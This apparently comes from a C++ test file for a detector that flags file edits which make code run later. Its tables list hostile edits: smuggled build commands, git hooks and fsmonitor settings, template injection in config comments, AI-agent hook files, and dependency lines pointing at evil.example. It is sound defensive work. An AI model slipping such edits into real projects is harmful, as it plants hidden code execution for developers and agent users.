#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "change/rules/triggers.h"

// Attempts to make something run later that once went through without an alarm.
namespace cloche::rules {
namespace {

struct Attack {
  std::string_view path;
  std::string_view before;
  std::string_view after;
};

constexpr Attack kGit[] = {
    {".git/refs/replace/0123456789012345678901234567890123456789", "", "1234"},
    {"lib/.git/refs/replace/0123456789012345678901234567890123456789", "", "1234"},
    {".git/packed-refs", "12 refs/heads/main\n", "12 refs/heads/main\n34 refs/replace/56\n"},
    {"vendor.git/refs/pack/HEAD", "", "ref: refs/heads/main\n"},
    {"fix/bare/config", "[core]\nbare = true\n", "[core]\nbare = false\nfsmonitor = id\n"},
    {"fix/bare/config.worktree", "", "[core]\nfsmonitor = id\n"},
    {"fix/bare/hooks/post-update", "", "id"},
    {"fix/bare/hooks/push-to-checkout", "", "id"},
    {"fix/bare/info/attributes", "", "* filter=x\n"},
    {"fix/bare/commondir", "", "../evil\n"},
    {".git/remotes/origin", "", "URL: /tmp/evil\n"},
    {".git/branches/main", "", "/tmp/evil\n"},
};

constexpr Attack kGitEveryday[] = {
    {".git/packed-refs", "12 refs/heads/main\n", "34 refs/heads/main\n"},
    {".git/refs/remotes/origin/HEAD", "", "ref: refs/remotes/origin/main\n"},
    {"lib/.git/refs/remotes/origin/HEAD", "", "ref: refs/remotes/origin/main\n"},
    {".git/logs/refs/remotes/origin/HEAD", "", "0123456789012345678901234567890123456789 1"},
    {"app/config", "[server]\nport = 1\n", "[server]\nport = 2\n"},
    {"app/config", "Host x\n", "Host y\n  Port 3\n"},
};

constexpr Attack kMake[] = {
    {"Makefile", "CFLAGS = -O2\n", "CFLAGS = -O2 $$(id)\n"},
    {"Makefile", "all:\n", "all: lint\nlint: ; id x:y=1\n"},
    {"Makefile", "CFLAGS = -O2\n", "CFLAGS = -O2 -Btools/\n"},
    {"Makefile", "CFLAGS = -O2\n", "CFLAGS = -O2 --ld-path=./x\n"},
    {"Makefile", "CFLAGS = -O2\n", "CFLAGS = -O2 @flags.txt\n"},
    {"Makefile", "all:\n", "export GIT_EXEC_PATH=./tools\nall:\n"},
    {"Makefile", "all:\n", "export GIT_CONFIG_COUNT=1\nall:\n"},
    {"Makefile", "all:\n", "export RUSTC_WRAPPER=./x\nall:\n"},
    {"Makefile", "all:\n", "export JAVA_TOOL_OPTIONS=-javaagent:x\nall:\n"},
    {"Makefile", "all:\n", "PERL5DB=x\nexport\nall:\n"},
    {"local.mk.sh", "", "X:=$(shell id)\n"},
    {"ci.just", "lint:\n    true\n", "lint:\n    id\n"},
    {"justfile", "x := \"1\"\n", "x := shell(\"id\")\n"},
    {"b/CMakeCache.txt", "A:STRING=1\n", "A:STRING=1\nCMAKE_C_COMPILER_LAUNCHER:STRING=id\n"},
    {"CMakeLists.txt.in", "project(x)\n", "project(x)\nexecute_process(COMMAND id)\n"},
    {"CMakeLists.txt", "project(x)\n", "project(x)\ninclude(${CMAKE_BINARY_DIR}/x.cmake)\n"},
    {"CMakeLists.txt", "project(x)\n",
     "project(x)\nfile(WRITE ${CMAKE_BINARY_DIR}/x.cmake \"a\")\n"},
    {"CMakeLists.txt", "project(x)\n", "project(x)\nadd_test(NAME t COMMAND sh -c id)\n"},
    {"b/CTestTestfile.cmake", "add_test(a \"true\")\n", "add_test(a \"touch\" \"x\")\n"},
    {"CMakeLists.txt", "set(G true)\nadd_custom_target(g ALL COMMAND ${G} x)\n",
     "set(G touch)\nadd_custom_target(g ALL COMMAND ${G} x)\n"},
    {"CMakeLists.txt", "set(G true)\nadd_custom_target(g ALL COMMAND sh -c ${G})\n",
     "set(G touch)\nadd_custom_target(g ALL COMMAND sh -c ${G})\n"},
    {"CMakeLists.txt", "project(x)\n",
     "project(x)\nset_property(GLOBAL PROPERTY RULE_LAUN${E}CH_COMPILE \"id\")\n"},
    {"CMakeLists.txt", "project(x)\n", "project(x)\nset_property(GLOBAL PROPERTY ${P} \"id\")\n"},
    {"CMakeLists.txt", "project(x)\n", "project(x)\nset(CMAKE_C_COMPILER_LAU${N}CHER id)\n"},
    {"CMakeLists.txt", "project(x)\n", "project(x)\nset(CMAKE_${N} id)\n"},
    {"CMakeLists.txt", "project(x)\n",
     "project(x)\nFetchContent_Populate(z SOURCE_DIR z DOWNLOAD_COMMAND id)\n"},
    {"CMakeLists.txt", "project(x)\n", "project(x)\nadd_compile_options(-Btools)\n"},
    {"build.ninja", "rule r\n  command = true\n", "rule r\n  command = touch x\n"},
    {"configure", "#!/bin/sh\necho checking\n", "#!/bin/sh\necho checking\ntouch x\n"},
    {"build.xml", "<project/>\n", "<project>\n<exec executable=\"touch\"/>\n</project>\n"},
    {"Rakefile", "task :a\n", "task :a\nsh(\"id\")\n"},
    {"mix.exs", "x = 1\n", "x = 1\nSystem.cmd(\"id\", [])\n"},
    {"SConstruct", "x = 1\n", "x = 1\nCommand('a', 'b', 'id')\n"},
    {"Tiltfile", "x = 1\n", "x = 1\nlocal('id')\n"},
    {"main.tf", "interpreter = [\"sh\"]\n", "interpreter = [\"touch\", \"x\"]\n"},
    {"main.tf", "program = [\"true\"]\n", "program = [\"touch\", \"x\"]\n"},
    {"env.hcl", "a = 1\n", "a = run_cmd(\"id\")\n"},
    {".env.test", "A=1\n", "A=1\ntouch x\n"},
    {".env.dev", "A=1\n", "A=${shell touch x}\n"},
};

constexpr Attack kMakeEveryday[] = {
    {"Makefile", "SRC = a.c\n", "SRC = a.c b.c\n"},
    {"Makefile", "CFLAGS = -O2\n", "CFLAGS = -O2 -Wall -std=c11\n"},
    {"Makefile", "all: a\n", "all: a b\n"},
    {"Makefile", "GIT_VERSION = 1\n", "GIT_VERSION = 2\n"},
    {"CMakeLists.txt", "project(x)\n",
     "project(x)\nadd_executable(t t.c)\nadd_test(NAME t COMMAND t --fast)\n"},
    {"CMakeLists.txt", "project(x)\n",
     "project(x)\ninclude(${CMAKE_CURRENT_SOURCE_DIR}/a.cmake)\n"},
    {"CMakeLists.txt", "set(S a.c)\nadd_custom_target(g COMMAND prog ${S})\n",
     "set(S a.c b.c)\nadd_custom_target(g COMMAND prog ${S})\n"},
    {"CMakeLists.txt", "project(x)\n", "project(x)\nset(CMAKE_${L}_FLAGS \"-O2\")\n"},
    {"CMakeLists.txt", "project(x)\n",
     "project(x)\nset_target_properties(x PROPERTIES OUTPUT_NAME y VERSION ${V})\n"},
    {".env.test", "A=1\n", "A=1\nexport B=\"two words\"\n# c\nC='x'\n"},
};

constexpr Attack kReaders[] = {
    {".ocamlinit", "let x = 1;;\n", "let x = 1;;\n#use \"notes.txt\";;\n"},
    {"build.cake", "var x = 1;\n", "#load \"notes.txt\"\nvar x = 1;\n"},
    {"build.cake", "var x = 1;\n", "#addin nuget:?package=Evil\nvar x = 1;\n"},
    {".sbclrc", "(setf *x* 1)\n", "(setf *x* 1)\n#+sbcl (run-program \"id\")\n"},
    {"prog-gdb.scm", "(display 1)\n", "(display 1)\n#t (system \"id\")\n"},
    {".busted", "return {\n a = 1,\n}\n", "return {\n#io.popen(\"id\"):read(\"a\"),\n a = 1,\n}\n"},
    {".rspec", "--color\n", "--color\n# <%= `id` %>\n"},
    {".rubocop.yml", "AllCops:\n  NewCops: enable\n",
     "# <% `id` %>\nAllCops:\n  NewCops: enable\n"},
    {"helmfile.yaml", "releases: []\n", "# {{ exec \"id\" (list) }}\nreleases: []\n"},
    {"rector.php", "<?php\nreturn 1;\n", "<?php\n# x ?><?php system(\"id\");\nreturn 1;\n"},
    {"project.clj", "(defproject x \"1\")\n", "#_x (shell/sh \"id\")\n(defproject x \"1\")\n"},
    {".clinerules/hooks/TaskStart", "", "#!/bin/sh\nid\n"},
    {".kilocode/setup-script", "", "id\n"},
    {".claude/commands/fix.md", "Fix it\n", "!`id`\nFix it\n"},
    {".claude/commands/fix.md", "Fix it\n", "---\nallowed-tools: Bash\n---\nFix it\n"},
    {".claude/skills/a/SKILL.md", "---\nname: a\n---\n",
     "---\nname: a\nhooks:\n  Stop:\n    - command: id\n---\n"},
    {".claude/plugins/x/hooks/a.md", "", "!`id`\n"},
    {".claude/agents/a.md", "---\nname: a\n---\n", "---\nname: a\nmcpServers: [x]\n---\n"},
};

constexpr Attack kReadersEveryday[] = {
    {".rspec", "--color\n", "--color\n# nicer\n"},
    {".rubocop.yml", "AllCops:\n  NewCops: enable\n", "# why\nAllCops:\n  NewCops: enable\n"},
    {".claude/commands/fix.md", "Fix it\n", "---\ndescription: fixes\n---\nFix it all!\n"},
    {"CLAUDE.md", "a\n", "Run `make test` first!\n"},
    {".bazelrc", "build --a\n", "# why\nbuild --a\n"},
    {".github/workflows/a.yml", "on: push\n", "on: push\nname: ${{ github.ref }}\n"},
};

constexpr Attack kPackages[] = {
    {"package.json", "{}", R"({"dependencies": {"a": "vendor.tgz"}})"},
    {"package.json", "{}", R"({"dependencies": {"a": "./vendor"}})"},
    {"package-lock.json",
     R"({"packages": {"node_modules/a": {"version": "1", "resolved": "https://r.example/a.tgz"}}})",
     R"({"packages": {"node_modules/a": {"version": "2", "resolved": "file:x.tgz"}}})"},
    {"requirements.txt", "a\n", "a\n./assets.tar.gz\n"},
    {"requirements.txt", "a\n", "a\nassets.whl\n"},
    {"requirements.txt", "a\n", "a\n-r paper/notes.txt\n"},
    {"dev-requirements.txt", "a\n", "--index-url https://evil.example/simple\na\n"},
    {"pip.py", "", "open('x')\n"},
    {"pip/__main__.py", "", "open('x')\n"},
    {"Cargo.toml", "[package]\nname=\"x\"\n",
     "[package]\nname=\"x\"\n[lib]\ncrate-type = [\"proc-macro\"]\n"},
    {"pyproject.toml", "[project]\nname=\"x\"\n",
     "[project]\nname=\"x\"\n[tool.setuptools.dynamic]\nversion = {attr = \"p.V\"}\n"},
    {"pyproject.toml", "[tool.hatch.version]\npath=\"a.py\"\n",
     "[tool.hatch.version]\nsource=\"code\"\npath=\"notes.txt\"\n"},
    {"pyproject.toml", "[project]\ndependencies = []\n",
     "[project]\ndependencies = [\"r @ https://evil.example/r.tar.gz\"]\n"},
    {"pyproject.toml", "[tool.poetry.dependencies]\npython=\"*\"\n",
     "[tool.poetry.dependencies]\npython=\"*\"\nr={path=\"a.tar.gz\"}\n"},
    {"setup.cfg", "[metadata]\nversion=1\n", "[metadata]\nversion=attr: evil.V\n"},
    {"setup.py", "setup(\n  install_requires=[],\n)\n",
     "setup(\n  install_requires=[\"r @ https://evil.example/r\"],\n)\n"},
    {"Pipfile", "[packages]\n", "[packages]\nx = {file = \"evil.tar.gz\"}\n"},
    {"x.csproj", "<Project>\n</Project>\n",
     "<Project><PropertyGroup><CustomAfterMicrosoftCommonTargets>n.txt"
     "</CustomAfterMicrosoftCommonTargets></PropertyGroup></Project>\n"},
    {"x.csproj", "<Project>\n</Project>\n",
     "<Project><ItemGroup><ProjectReference Include=\"n.xml\"/></ItemGroup></Project>\n"},
    {"pom.xml", "<project/>\n",
     "<project><properties><argLine>-javaagent:x</argLine></properties></project>\n"},
    {"pom.xml", "<project/>\n",
     "<project><modules><module>docs/notes.xml</module></modules></project>\n"},
    {"pom.xml", "<project/>\n",
     "<project><parent><relativePath>docs/n.xml</relativePath></parent></project>\n"},
    {".vscode/settings.json", "{}",
     R"({"cmake.configureSettings": {"CMAKE_C_COMPILER_LAUNCHER": "x"}})"},
};

constexpr Attack kPackagesEveryday[] = {
    {"package.json", "{}", R"({"dependencies": {"a": "^1.2.0"}})"},
    {"requirements.txt", "a\n", "a==2\nb>=1 # c\n-r requirements-dev.txt\n"},
    {"Cargo.toml", "[lib]\nname=\"x\"\n", "[lib]\nname=\"x\"\ncrate-type = [\"cdylib\"]\n"},
    {"pyproject.toml", "[project]\ndependencies = []\n",
     "[project]\ndependencies = [\"requests>=2\"]\n"},
    {"x.csproj", "<Project>\n</Project>\n",
     "<Project><ItemGroup><ProjectReference Include=\"../a/a.csproj\"/></ItemGroup></Project>\n"},
    {"pom.xml", "<project/>\n", "<project><modules><module>core</module></modules></project>\n"},
};

std::vector<Trigger> Judged(const Attack& each) {
  const std::string path = "/h/u/app/" + std::string(each.path);
  FileChange change{.path = path, .after = Version{.content = each.after}};
  if (!each.before.empty()) change.before = Version{.content = each.before};
  return FindTriggers(change, {.project = "/h/u/app", .home = "/h/u"});
}

template <size_t N>
void ExpectAlarms(const Attack (&attacks)[N]) {
  for (const Attack& each : attacks) {
    const auto found = Judged(each);
    EXPECT_TRUE(!found.empty() && found[0].severity == Severity::kAlarm)
        << each.path << ": " << each.after;
  }
}

template <size_t N>
void ExpectCalm(const Attack (&edits)[N]) {
  for (const Attack& each : edits)
    for (const Trigger& found : Judged(each))
      EXPECT_EQ(found.severity, Severity::kNotice)
          << each.path << ": " << found.id << ": "
          << (found.effective.empty() ? "" : found.effective[0]);
}

TEST(TriggersAttack, Git) {
  ExpectAlarms(kGit);
  ExpectCalm(kGitEveryday);
}

TEST(TriggersAttack, Readers) {
  ExpectAlarms(kReaders);
  ExpectCalm(kReadersEveryday);
}

TEST(TriggersAttack, Packages) {
  ExpectAlarms(kPackages);
  ExpectCalm(kPackagesEveryday);
}

TEST(TriggersAttack, Builds) {
  ExpectAlarms(kMake);
  ExpectCalm(kMakeEveryday);
}

}  // namespace
}  // namespace cloche::rules
